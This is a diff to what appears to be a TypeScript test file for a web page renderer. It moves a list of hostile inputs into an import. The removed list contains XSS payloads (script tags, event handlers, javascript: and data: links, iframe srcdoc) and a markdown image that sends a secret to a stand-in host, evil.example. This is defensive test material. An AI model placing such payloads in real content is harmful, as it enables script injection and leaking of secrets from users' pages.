@@ -7,6 +7,7 @@ import {
   about,
   expectStatus,
   finish,
+  hostile,
   sidewaysOf,
   tabTo,
   takePictures,
@@ -14,18 +15,6 @@ import {
   untilAtRest,
   violationsOf,
 } from "./web-page.ts";
-
-/** What an agent, a tool or a file may write to become a part of the page. */
-const hostile = [
-  "<script>window.hacked = 1</script>",
-  "<img src=x onerror='window.hacked = 1'>",
-  "<svg onload='window.hacked = 1'></svg>",
-  "[click](javascript:window.hacked=1)",
-  "![picture](https://evil.example/leak?secret)",
-  "<a href='javascript:window.hacked=1'>x</a>",
-  "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
-  "[x](data:text/html,<script>window.hacked=1</script>)",
-].join("\n\n");
 
 const cuts = 10;
 
